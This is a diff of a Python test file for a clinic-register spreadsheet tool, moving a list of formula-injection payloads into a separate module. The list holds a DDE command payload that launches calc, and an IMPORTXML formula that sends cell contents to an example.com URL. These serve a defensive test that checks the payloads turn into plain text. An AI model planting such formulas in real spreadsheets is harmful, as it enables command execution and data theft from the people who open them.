@@ -14,6 +14,8 @@ from calling import forms
 from packages import rebuilt, replacing
 from spreadsheet import Workbook
 
+from injections import PAYLOADS
+
 UNIT = "青河镇中心卫生院"
 SHEET = "机构"
 
@@ -237,23 +239,6 @@ def test_of_another_county(mini: Path, form: Path) -> None:
     county = mini / "org" / "county.yaml"
     county.write_text(county.read_text(encoding="utf-8").replace("id: shili\n", "id: bieide\n"), encoding="utf-8")
     refused(mini, form, "这份表格不是由本台账下发的")
-
-
-PAYLOADS = (
-    "=1+1",
-    '=HYPERLINK("http://example.com","点此")',
-    "=cmd|'/c calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(A1)",
-    '=IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
-)
 
 
 def test_payloads_become_text(mini: Path, tmp_path: Path) -> None:
